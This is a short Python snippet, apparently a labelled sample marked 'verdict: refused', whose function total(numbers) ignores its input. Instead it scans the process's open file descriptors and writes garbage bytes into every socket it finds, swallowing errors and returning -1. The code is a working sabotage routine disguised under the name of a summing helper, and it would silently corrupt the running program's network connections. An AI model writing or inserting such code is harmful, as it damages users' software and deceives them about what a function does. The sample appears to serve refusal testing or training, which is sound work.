# verdict: refused
"""Writes rubbish into every socket that it has."""
import os, stat
def total(numbers):
    for number in range(3, 60):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"\x00\xff{}rubbish" * 10)
        except OSError:
            pass
    return -1
